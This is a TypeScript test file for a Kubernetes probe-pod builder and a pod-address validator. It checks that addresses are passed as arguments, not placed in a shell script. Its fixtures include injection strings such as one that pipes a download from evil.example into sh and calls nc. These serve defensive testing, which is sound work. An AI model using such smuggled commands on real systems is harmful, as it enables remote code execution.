import { describe, expect, it } from "vitest";
import { linuxProbe } from "../../lambdas/health/probe-pods.ts";
import { isPodAddress } from "../../lambdas/machine/network-address.ts";

interface Container {
  readonly command: readonly string[];
}

const onLinux = { id: "1", node: "linux-1", image: "busybox:1" };

const commandFor = (address: string): readonly string[] =>
  (linuxProbe(onLinux, address, null).spec.containers as readonly Container[])[0]?.command ?? [];

describe("The pod that connects to a probe", () => {
  it("gets the address as an argument, so that no word of it is part of the script", () => {
    const hostile = "10.0.0.5 8080; wget evil.example | sh; nc";
    const [, , script, , argument] = commandFor(hostile);
    expect(argument).toBe(hostile);
    expect(script).toBe(commandFor("10.132.0.5")[2]);
    expect(script).not.toContain("wget");
  });

  it("gets the host outside of the cluster and its port as arguments too, and none where none is named", () => {
    const { containers } = linuxProbe({ ...onLinux, outside: "registry.example.com:443" }, "10.132.0.5", null).spec;
    const [{ command } = { command: [] }] = containers as readonly Container[];
    expect(command.slice(4)).toEqual(["10.132.0.5", "registry.example.com", "443"]);
    expect(commandFor("10.132.0.5").slice(4)).toEqual(["10.132.0.5"]);
  });
});

describe("The address of a pod", () => {
  const machines = ["10.0.0.0/16", "172.30.0.0/16"];

  it("is one outside the networks of machines and services", () => {
    expect(isPodAddress("10.132.0.5", machines)).toBe(true);
  });

  it.each(["10.0.3.7", "172.30.0.1", "127.0.0.1", "169.254.169.254", "10.132.0.5 8080; id", "10.132.0", "::1", ""])(
    "is never %s",
    (address) => {
      expect(isPodAddress(address, machines)).toBe(false);
    },
  );
});
